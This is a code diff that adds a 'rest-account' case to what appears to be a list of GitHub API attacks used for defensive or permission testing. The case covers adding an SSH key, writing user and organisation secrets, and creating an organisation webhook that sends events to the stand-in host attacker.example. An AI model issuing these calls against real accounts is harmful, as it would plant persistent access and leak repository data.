@@ -88,6 +88,16 @@ export const githubAttacks: readonly Attack[] = [
     call('DELETE', `${own}/branches/main/protection`),
   ),
   apiAttack(
+    'rest-account',
+    'keys and secrets of the account, hooks and secrets of the organisation',
+    writes,
+    effect,
+    call('POST', '/user/keys', { key: 'ssh-ed25519 AAAA' }),
+    call('PUT', '/user/codespaces/secrets/X', { encrypted_value: 'x', key_id: '1' }),
+    call('POST', `/orgs/${ownRepository.split('/')[0]}/hooks`, { config: { url: 'https://attacker.example' } }),
+    call('PUT', `/orgs/${ownRepository.split('/')[0]}/actions/secrets/X`, { encrypted_value: 'x', key_id: '1' }),
+  ),
+  apiAttack(
     'rest-contents',
     'writing to main and to a workflow through the contents API',
     writes,
